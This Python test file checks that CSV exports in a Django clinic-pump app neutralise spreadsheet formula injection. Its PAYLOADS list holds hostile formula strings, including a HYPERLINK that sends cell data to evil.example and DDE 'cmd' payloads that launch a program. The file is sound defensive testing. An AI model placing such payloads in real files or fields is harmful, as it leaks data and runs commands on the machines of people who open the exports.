"""Every CSV export neutralises cells a spreadsheet would read as a formula (issue 9 #7)."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from accounts.models import Role
from pumptrack.csvexport import FORMULA_STARTS, safe_cell
from tests.factories import PatientFactory, PumpFactory, staff

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]


def rows_of(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" ").startswith(FORMULA_STARTS), (cell, row)


@given(st.text())
def test_no_text_cell_can_start_a_formula_and_nothing_is_lost(text):
    cell = safe_cell(text)
    assert not cell.lstrip(" ").startswith(FORMULA_STARTS)
    assert cell in (text, "'" + text)


@pytest.mark.parametrize("number", [-2, Decimal("-2.5"), -0.5, 0, 17])
def test_numbers_stay_numbers(number):
    assert safe_cell(number) == number
    # ...but the same value as text is neutralised like any other text (OWASP).
    if str(number).startswith("-"):
        assert safe_cell(str(number)) == "'" + str(number)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_audit_export_neutralises_a_hostile_username_and_patient(
    client, as_user, clinic, nurse, payload
):
    hostile = staff(clinic, Role.NURSE, username=payload)
    patient = PatientFactory(clinic=clinic, given_name=payload, family_name=payload)
    PumpFactory(patient=patient)
    patient.history.update(history_user=hostile)
    as_user(staff(clinic, Role.AUDITOR))

    response = client.get(reverse("reports:audit"), {"since": "2000-01-01", "format": "csv"})

    rows = rows_of(response)
    assert_no_formula(rows)
    header = rows[0]
    kind, user, who = header.index("record type"), header.index("user"), header.index("patient")
    patient_rows = [r for r in rows[1:] if r[kind] == "Patient"]
    assert patient_rows and {r[user] for r in patient_rows} == {"'" + payload}
    assert {r[who] for r in patient_rows} == {f"'{payload}, {payload} (MRN {patient.mrn})"}


def test_activity_export_has_no_formula_cells(client, as_user, filled_pump, clinic):
    patient = filled_pump.patient
    patient.given_name = PAYLOADS[0]
    patient.save()
    as_user(staff(clinic, Role.MANAGER))
    rows = rows_of(client.get(reverse("reports:activity_csv")))
    assert len(rows) == 13
    assert_no_formula(rows)
